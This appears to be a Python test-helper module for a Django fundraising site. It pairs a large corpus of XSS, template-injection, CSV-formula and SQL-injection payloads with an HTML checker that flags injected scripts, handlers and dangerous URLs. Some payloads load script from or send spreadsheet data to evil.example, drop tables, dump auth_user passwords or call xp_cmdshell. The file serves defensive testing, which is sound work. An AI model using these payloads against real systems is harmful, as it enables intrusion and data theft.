"""What attackers type: cross-site scripting payloads, SQL metacharacters, valid addresses
that carry markup, and a checker that finds what such input would have made of a page.

The XSS corpus follows the families of the usual cheat sheets (OWASP's filter evasion sheet,
PortSwigger's XSS cheat sheet): script tags, event handlers, javascript:/data:/vbscript: URLs,
SVG and MathML, encoded and double-encoded markup, broken markup, attribute breakouts,
template injection, CSS, and Unicode tricks. Each payload names one way a page could go
wrong; a test posts it through a field and reads every page where the field is shown.
"""

import html
import json
import re
from html.parser import HTMLParser

XSS = [
    # Script elements.
    "<script>alert('xss1')</script>",
    "<SCRIPT>alert('xss2')</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert('xss4')></script>",
    "<scr<script>ipt>alert('xss5')</scr</script>ipt>",
    '<script type="text/javascript">alert("xss6")</script>',
    "</script><script>alert('xss7')</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    # Event handlers on img, svg, body, details and friends.
    "<img src=x onerror=alert('xss9')>",
    '<img src="x" onerror="alert(\'xss10\')">',
    "<IMG SRC=x oNeRrOr=alert('xss11')>",
    "<img src=x onerror=alert`xss12`>",
    "<body onload=alert('xss13')>",
    "<details open ontoggle=alert('xss14')>",
    "<svg onload=alert('xss15')>",
    "<svg/onload=alert('xss16')>",
    "<input autofocus onfocus=alert('xss17')>",
    "<video><source onerror=alert('xss18')></video>",
    "<audio src=x onerror=alert('xss19')>",
    "<marquee onstart=alert('xss20')>",
    "<div onmouseover=\"alert('xss21')\">hover</div>",
    "<select autofocus onfocus=alert('xss22')>",
    "<textarea autofocus onfocus=alert('xss23')>",
    "<keygen autofocus onfocus=alert('xss24')>",
    "<a href=# onclick=alert('xss25')>click</a>",
    # javascript:, data: and vbscript: addresses.
    "<a href=\"javascript:alert('xss26')\">link</a>",
    "<a href=\"JaVaScRiPt:alert('xss27')\">link</a>",
    "<a href=\" javascript:alert('xss28')\">link</a>",
    "<a href=\"java\tscript:alert('xss29')\">link</a>",
    "<a href=\"&#106;avascript:alert('xss30')\">link</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    "<a href=\"vbscript:msgbox('xss32')\">link</a>",
    "<iframe src=\"javascript:alert('xss33')\"></iframe>",
    "<form action=\"javascript:alert('xss34')\"><input type=submit></form>",
    "<button formaction=\"javascript:alert('xss35')\">go</button>",
    "<object data=\"javascript:alert('xss36')\"></object>",
    "<embed src=\"javascript:alert('xss37')\">",
    "javascript:alert('xss38')",
    "data:text/html,<script>alert('xss39')</script>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss40\')">',
    # SVG and MathML.
    "<svg><script>alert('xss41')</script></svg>",
    "<svg><animate onbegin=alert('xss42') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('xss43')\"><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert('xss44')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss45')>",
    "<math href=\"javascript:alert('xss46')\">click</math>",
    # Encoded and double-encoded markup.
    "&#x3C;script&#x3E;alert('xss47')&#x3C;/script&#x3E;",
    "&lt;script&gt;alert('xss48')&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert('xss49')&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert('xss50')%3C/script%3E",
    "%253Cscript%253Ealert('xss51')%253C/script%253E",
    "\\u003cscript\\u003ealert('xss52')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('xss53')\\x3c/script\\x3e",
    "&#60;img src=x onerror=alert('xss54')&#62;",
    # Broken and unclosed markup.
    "<img src=x onerror=alert('xss55')",
    "<<script>alert('xss56');//<</script>",
    "<script>alert('xss57')",
    "<!--<img src=--><img src=x onerror=alert('xss58')//-->",
    "<![CDATA[<script>alert('xss59')</script>]]>",
    "<a href='javascript:alert(\"xss60\")'",
    "<style>@import'javascript:alert(\"xss61\")';</style>",
    # Attribute breakouts with quotes and backticks.
    '" onmouseover="alert(\'xss62\')" x="',
    "' onmouseover='alert(\"xss63\")' x='",
    "\"><script>alert('xss64')</script>",
    "'><img src=x onerror=alert('xss65')>",
    "` onmouseover=alert('xss66') `",
    "\"/><svg onload=alert('xss67')>",
    "\" autofocus onfocus=\"alert('xss68')",
    # Template injection (Django, Jinja2): shown as typed, never evaluated.
    "{{7*7}}",
    "{% debug %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "{{ ''.__class__.__mro__ }}",
    "{% load log %}{% get_admin_log 10 as log %}",
    # CSS.
    "<div style=\"width:expression(alert('xss76'))\">x</div>",
    "<div style=\"background:url(javascript:alert('xss77'))\">x</div>",
    "<link rel=stylesheet href=\"javascript:alert('xss78')\">",
    # Unicode tricks: fullwidth brackets, zero-width and bidi characters, combining marks.
    "\uff1cscript\uff1ealert('xss79')\uff1c/script\uff1e",
    "<scr\u200bipt>alert('xss80')</scr\u200bipt>",
    "\u202e>tpircs/<)'18ssx'(trela>tpircs<",
    "<img src=x onerror=\u0061lert('xss82')>",
    "<a href=\"\u2028javascript:alert('xss83')\">x</a>",
    "<scri\u0307pt>alert('xss84')</script>",
    "\ufeff<script>alert('xss85')</script>",
    # CSV formulas (the fundraisers' export opens in a spreadsheet).
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]

# Markup payloads that are also valid email addresses (quoted local parts, RFC 5321): they
# get through an email field, so every place that shows an address must escape it.
XSS_EMAILS = [
    '"<script>alert(1)</script>"@example.org',
    '"<img/src=x/onerror=alert(1)>"@example.org',
    '"\'><svg/onload=alert(1)>"@example.org',
    '"\\"onmouseover=alert(1)"@example.org',
]

# Template syntax that must appear on the page exactly as typed (not 49, not debug output).
TEMPLATE_INJECTIONS = [p for p in XSS if p.startswith(("{{", "{%", "${"))]

SQL = [
    "'",
    '"',
    ";",
    "--",
    "/*",
    "*/",
    "`",
    "\\",
    "%27",
    "' OR 1=1--",
    "' OR '1'='1",
    '" OR "1"="1',
    "1' OR '1'='1' /*",
    "1; DROP TABLE comments_comment;--",
    "' UNION SELECT username, password FROM auth_user--",
    "1 UNION SELECT NULL,NULL,NULL--",
    "votes' OR 1=1--",
    "newest; SELECT pg_sleep(5)--",
    "1)) OR ((1=1",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "\x00",
    "votes\x00",
    "%00",
    "ö'ü\"ß",
    "'; EXEC xp_cmdshell('dir');--",
    "A" * 5000,
    "%" * 300,
    "_%_",
    "1e309",
    "-1",
    "0x1",
    "[]",
    "{}",
]

# --- Reading a page the way a browser would ----------------------------------------------

# Elements that run code or load other documents; none of them is ours.
FORBIDDEN_ELEMENTS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "math",
    "base",
    "style",
    "template",
    "portal",
    "keygen",
    "marquee",
}
# Our own SVG drawings (the goal bar, the video play icon) and the Django admin's (its theme
# switch and icon sprites): any other <svg> came from input.
OUR_SVG_CLASSES = {
    "goal-bar__marker",
    "goal-bar__track",
    "video__icon",
    "base-svgs",
    "theme-icon-when-auto",
    "theme-icon-when-dark",
    "theme-icon-when-light",
}
# Scripts are files of ours: static files, and the admin's translation catalogue.
# Our files, the admin's catalogue and ours (site.js's words in each language).
OUR_SCRIPT_PREFIXES = ("/static/", "/admin/jsi18n/", "/jsi18n/", "/de/jsi18n/", "/ar/jsi18n/")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "lowsrc",
    "dynsrc",
    "cite",
    "ping",
    "longdesc",
    "manifest",
    "codebase",
    "icon",
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-patch",
    "hx-delete",
}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
OUR_SCRIPT_TYPES = {"application/ld+json", "application/json"}


def _scheme_part(value):
    """An address as a browser reads its scheme: entities decoded (the parser did that),
    ASCII whitespace and control characters anywhere removed, lower case."""
    return "".join(ch for ch in value if ord(ch) > 0x20 and ch not in "\u2028\u2029").lower()


class _PageReader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_script = None  # the attributes of the <script> being read
        self.script_text = []

    def problem(self, text):
        self.problems.append(text)

    def handle_starttag(self, tag, attrs):
        where = f"<{tag} {attrs}>"
        attributes = dict(attrs)
        if tag in FORBIDDEN_ELEMENTS:
            self.problem(f"forbidden element {where}")
        if tag == "svg" and attributes.get("class") not in OUR_SVG_CLASSES:
            self.problem(f"an <svg> that is not ours: {where}")
        if tag == "meta" and "http-equiv" in attributes:
            self.problem(f"a meta refresh or the like: {where}")
        if tag == "script":
            src = attributes.get("src") or ""
            kind = (attributes.get("type") or "").lower()
            if not (src.startswith(OUR_SCRIPT_PREFIXES) and not kind) and (
                kind not in OUR_SCRIPT_TYPES
            ):
                self.problem(f"a script that is not ours: {where}")
            if src and not src.startswith(OUR_SCRIPT_PREFIXES):
                self.problem(f"a script from elsewhere: {where}")
            self.in_script = attributes
            self.script_text = []
        if tag == "link":
            href = attributes.get("href") or ""
            if attributes.get("rel") == "stylesheet" and not href.startswith("/static/"):
                self.problem(f"a stylesheet that is not ours: {where}")
        for name, value in attrs:
            name = name.lower()
            value = value or ""
            if name.startswith("on") or name.startswith("hx-on") or name.startswith("data-hx-on"):
                self.problem(f"event handler attribute {name}= in {where}")
            if name in URL_ATTRIBUTES and _scheme_part(value).startswith(DANGEROUS_SCHEMES):
                self.problem(f"{name}={value!r} in {where}")
            if name == "srcset" and any(
                _scheme_part(part).startswith(DANGEROUS_SCHEMES) for part in value.split(",")
            ):
                self.problem(f"srcset={value!r} in {where}")
            if name == "style":
                self.problem(f"an inline style (none of ours has one): {where}")
            if name in {"hx-vals", "hx-vars", "hx-headers"} and "js:" in _scheme_part(value):
                self.problem(f"htmx code in {name}= in {where}")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self.in_script is not None:
            self.script_text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self.in_script is not None:
            text = "".join(self.script_text)
            if text.strip() and "src" in self.in_script:
                self.problem(f"code inside a <script src>: {text[:80]!r}")
            if self.in_script.get("type", "").lower() in OUR_SCRIPT_TYPES:
                if "<" in text:
                    self.problem(f"markup inside a JSON script: {text[:80]!r}")
                try:
                    json.loads(text)
                except ValueError:
                    self.problem(f"a JSON script that is not JSON: {text[:80]!r}")
            elif text.strip():
                self.problem(f"inline code in a <script>: {text[:80]!r}")
            self.in_script = None


def html_problems(document):
    """Everything in an HTML document that input could have turned into code: elements,
    event handler attributes, script addresses, inline scripts. [] for a safe page."""
    if not isinstance(document, str):
        document = document.content.decode()
    reader = _PageReader()
    reader.feed(document)
    reader.close()
    return reader.problems


def assert_safe(response_or_html, where=""):
    problems = html_problems(response_or_html)
    assert not problems, f"{where}: " + "\n".join(problems[:10])


def visible_text(document):
    """The text of an HTML document as a reader sees it (tags gone, entities decoded)."""
    if not isinstance(document, str):
        document = document.content.decode()
    document = re.sub(r"<script\b.*?</script>", " ", document, flags=re.S | re.I)
    return html.unescape(re.sub(r"<[^>]*>", " ", document))
